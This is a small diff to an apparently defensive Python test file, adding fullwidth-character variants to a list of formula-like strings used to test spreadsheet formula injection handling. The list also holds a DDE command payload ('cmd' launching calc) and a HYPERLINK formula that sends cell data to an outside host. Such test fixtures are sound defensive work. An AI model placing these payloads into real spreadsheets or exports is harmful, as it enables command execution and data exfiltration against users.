@@ -20,6 +20,8 @@ from tests.workbooks.reports import Cost, a_page, a_report, a_sheet, written
 
 FORMULA_LIKE = [
     "=1+1",
+    "＝1+1",
+    "＠SUM(1)",
     "=cmd|'/c calc'!A0",
     '=HYPERLINK("http://x/?"&A1)',
     "+44 20 7946 0000",
